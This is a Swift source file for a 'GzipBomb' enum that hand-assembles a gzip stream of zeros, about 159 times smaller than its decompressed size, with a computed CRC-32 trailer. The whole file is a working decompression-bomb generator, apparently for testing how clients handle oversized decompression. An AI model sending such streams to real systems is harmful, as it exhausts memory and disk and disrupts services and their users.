import NetCore

/// A gzip stream (RFC 1952) of zeros that is up to 159 times smaller than what it holds, made without a compressor.
///
/// One deflate block with the fixed codes (RFC 1951, section 3.2.6) is a literal zero and then matches "258 bytes, one back",
/// 13 bits each. Eight of them are 13 whole bytes that repeat for as long as one likes. The checksum of that many zeros is
/// calculated, not summed up.
enum GzipBomb {
    /// The member header: deflate, no name, no time, unknown system.
    static let header = Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF])

    private static let literal = "00110000"
    /// Length 258 is code 285, distance 1 is code 0.
    private static let match = "11000101" + "00000"
    private static let unitsInBlock: Int64 = 1_000

    /// The stream of exactly `count` zeros.
    static func steps(zeros count: Int64) -> [Step] {
        // The last block, with the fixed codes.
        var start = "1" + "10"
        var remaining = max(0, count)
        var units: Int64 = 0
        if remaining >= 259 {
            // 24 bits, so that what repeats begins with a whole byte.
            start += literal + match
            remaining -= 259
            (units, remaining) = remaining.quotientAndRemainder(dividingBy: 8 * 258)
        }
        let matches = start.count == 24 ? remaining / 258 : 0
        let end =
            String(repeating: match, count: Int(matches))
            + String(repeating: literal, count: Int(remaining - matches * 258)) + "0000000"
        let trailer = littleEndian(checksum(zeros: max(0, count))) + littleEndian(UInt32(truncatingIfNeeded: count))
        guard start.count == 24 else { return [.write(header + pack(start + end) + trailer)] }

        let block = pack(String(repeating: match, count: Int(8 * unitsInBlock)))
        let (blocks, rest) = units.quotientAndRemainder(dividingBy: unitsInBlock)
        return [
            .write(header + pack(start)),
            .write(block, times: blocks),
            .write(block.prefix(Int(rest) * 13) + pack(end) + trailer),
        ]
    }

    /// Deflate fills each byte from its lowest bit.
    private static func pack(_ bits: String) -> Data {
        var bytes = Data(count: (bits.count + 7) / 8)
        for (index, bit) in bits.enumerated() where bit == "1" { bytes[index / 8] |= 1 << (index % 8) }
        return bytes
    }

    private static func littleEndian(_ value: UInt32) -> Data {
        withUnsafeBytes(of: value.littleEndian) { Data($0) }
    }

    /// CRC-32 of zeros. Feeding a zero byte multiplies the register by x^8, so that feeding n of them is one multiplication by x^8n.
    static func checksum(zeros count: Int64) -> UInt32 {
        var power: UInt32 = 1 << 31
        var square: UInt32 = 1 << 23
        var exponent = count
        while exponent > 0 {
            if exponent & 1 == 1 { power = product(power, square) }
            square = product(square, square)
            exponent >>= 1
        }
        return ~product(power, ~0)
    }

    /// The product of two polynomials modulo that of CRC-32; the highest bit stands for x^0.
    private static func product(_ left: UInt32, _ right: UInt32) -> UInt32 {
        var result: UInt32 = 0
        var shifted = right
        for bit in 0..<32 {
            if left & (1 << (31 - bit)) != 0 { result ^= shifted }
            shifted = shifted & 1 == 1 ? shifted >> 1 ^ 0xEDB8_8320 : shifted >> 1
        }
        return result
    }
}
